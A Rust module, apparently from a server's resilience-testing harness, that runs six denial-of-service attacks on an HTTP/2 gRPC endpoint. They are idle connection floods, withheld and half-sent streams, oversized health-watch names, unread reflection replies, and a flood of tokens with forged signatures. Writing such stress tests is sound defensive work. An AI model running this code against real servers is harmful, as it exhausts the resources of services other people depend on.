//! Six attackers: idle connections, calls that withhold their message, messages half sent, health watchers with long names, readers
//! that do not read, and forged tokens.

use std::time::Duration;

use bytes::Bytes;
use h2::client::{ResponseFuture, SendRequest};
use h2::{RecvStream, SendStream};
use http::{Method, Request};
use tokio::net::TcpStream;
use tokio::task::JoinSet;
use tokio::time::{Instant, interval, sleep, timeout, timeout_at};

use super::Target;

const IDLE_CONNECTIONS: usize = 3_000;
/// Connections of each of the attackers that hold calls, and the calls that each holds.
const HOLDERS: usize = 16;
const HELD: usize = 128;
const FORGERS: usize = 8;
/// Forged tokens a second, of all forgers.
const FORGED: u32 = 3_000;
/// Half of the 4 MiB that the message's head announces.
const HALF: usize = 2 << 20;
const WHOLE: u32 = 4 << 20;
const PAUSE: Duration = Duration::from_millis(50);

/// Attacks until the time is over.
pub async fn attack(target: &Target) {
    let end = Instant::now() + target.lasts;
    let mut attackers = JoinSet::new();
    attackers.spawn(timeout_at(end, idle(target.clone())));
    for _ in 0..HOLDERS {
        attackers.spawn(timeout_at(end, hold(target.clone(), withheld, HELD, 1 << 20)));
        attackers.spawn(timeout_at(end, hold(target.clone(), half_sent, 16, 1 << 20)));
        attackers.spawn(timeout_at(end, hold(target.clone(), watch, 16, 1)));
        attackers.spawn(timeout_at(end, hold(target.clone(), unread, 16, 1)));
    }
    for number in 0..FORGERS {
        attackers.spawn(timeout_at(end, forge(target.clone(), number)));
    }
    while attackers.join_next().await.is_some() {}
}

/// Opens connections, says nothing, and opens those anew that the server closes.
async fn idle(target: Target) {
    let mut open: Vec<TcpStream> = Vec::new();
    let mut turn = interval(PAUSE);
    loop {
        turn.tick().await;
        open.retain(|connection| {
            let closed = matches!(connection.try_read(&mut [0; 64]), Ok(0));
            !closed && connection.take_error().is_ok_and(|error| error.is_none())
        });
        for _ in open.len()..IDLE_CONNECTIONS.min(open.len() + 100) {
            let Ok(Ok(connection)) = timeout(PAUSE, TcpStream::connect(target.address)).await
            else {
                break;
            };
            open.push(connection);
        }
    }
}

/// A request's head, the bytes that follow, and whether they are all.
type Piece = (Request<()>, Bytes, bool);

/// Opens calls on one connection and holds them; opens them anew when the server has ended them all, or the connection.
async fn hold(target: Target, piece: fn(&Target) -> Piece, calls: usize, window: u32) {
    loop {
        if let Ok(sender) = connect(&target, window).await {
            let mut held = Vec::new();
            for _ in 0..calls {
                match timeout(PAUSE, open(sender.clone(), piece(&target))).await {
                    Ok(Ok(call)) => held.push(call),
                    Ok(Err(_)) | Err(_) => break,
                }
            }
            let mut answers = JoinSet::new();
            for (answer, rest) in held {
                answers.spawn(until_ended(answer, rest));
            }
            while answers.join_next().await.is_some() {}
        }
        sleep(PAUSE).await;
    }
}

/// Reads nothing but the head, and keeps the rest open until the server resets it.
async fn until_ended(answer: ResponseFuture, mut rest: SendStream<Bytes>) {
    let Ok(response) = answer.await else { return };
    let body: RecvStream = response.into_body();
    if !body.is_end_stream() {
        let _ = std::future::poll_fn(|context| rest.poll_reset(context)).await;
    }
}

async fn connect(target: &Target, window: u32) -> Result<SendRequest<Bytes>, h2::Error> {
    let stream =
        TcpStream::connect(target.address).await.map_err(|_| h2::Reason::REFUSED_STREAM)?;
    let mut builder = h2::client::Builder::new();
    let builder = builder.initial_window_size(window).initial_connection_window_size(1 << 20);
    let (sender, connection) = builder.handshake(stream).await?;
    tokio::spawn(connection);
    Ok(sender)
}

async fn open(
    sender: SendRequest<Bytes>,
    (request, bytes, whole): Piece,
) -> Result<(ResponseFuture, SendStream<Bytes>), h2::Error> {
    let mut sender = sender.ready().await?;
    let (answer, mut rest) = sender.send_request(request, false)?;
    if !bytes.is_empty() {
        rest.send_data(bytes, whole)?;
    }
    Ok((answer, rest))
}

fn head(target: &Target, path: &str, token: &str) -> Request<()> {
    let request = Request::builder()
        .method(Method::POST)
        .uri(format!("http://{}{path}", target.address))
        .header("te", "trailers")
        .header("content-type", "application/grpc");
    let request = match token {
        "" => request,
        _ => request.header("authorization", format!("Bearer {token}")),
    };
    request.body(()).expect("a request")
}

fn withheld(target: &Target) -> Piece {
    (head(target, &target.path, &target.token), Bytes::new(), false)
}

fn half_sent(target: &Target) -> Piece {
    (head(target, &target.path, &target.token), message(&vec![0; HALF], WHOLE), false)
}

/// `service` is a megabyte long.
fn watch(target: &Target) -> Piece {
    let mut request = vec![0x0a, 0x80, 0x80, 0x40];
    request.resize(request.len() + (1 << 20), b'a');
    let length = u32::try_from(request.len()).expect("a megabyte");
    (head(target, &target.watch, ""), message(&request, length), false)
}

/// Asks for the files of the health service again and again, and reads no answer.
fn unread(target: &Target) -> Piece {
    const SYMBOL: &[u8] = b"grpc.health.v1.Health";
    let mut request = vec![0x22, 21];
    request.extend(SYMBOL);
    let length = u32::try_from(request.len()).expect("it is short");
    (head(target, &target.reflection, ""), message(&request, length).repeat(100).into(), false)
}

fn message(bytes: &[u8], length: u32) -> Bytes {
    let mut framed = vec![0];
    framed.extend(length.to_be_bytes());
    framed.extend(bytes);
    framed.into()
}

/// Calls with tokens that nobody has signed, each another one.
async fn forge(target: Target, number: usize) {
    let share = FORGED / u32::try_from(FORGERS).expect("a few");
    let mut turn = interval(Duration::from_secs(1) / share);
    loop {
        let Ok(sender) = connect(&target, 1 << 16).await else {
            sleep(PAUSE).await;
            continue;
        };
        for count in 0_u64.. {
            turn.tick().await;
            let token = forged(&target.token, number, count);
            let piece = (head(&target, &target.path, &token), message(&[], 0), true);
            let Ok((answer, _)) = open(sender.clone(), piece).await else { break };
            tokio::spawn(async move { answer.await.map(drop) });
        }
    }
}

/// The head and the payload of the true token, with a signature that is not its own.
fn forged(token: &str, number: usize, count: u64) -> String {
    let signed = token.rsplit_once('.').map_or("e30.e30", |(signed, _)| signed);
    let signature = format!("{number:02x}{count:016x}");
    format!("{signed}.{signature:A<86}")
}
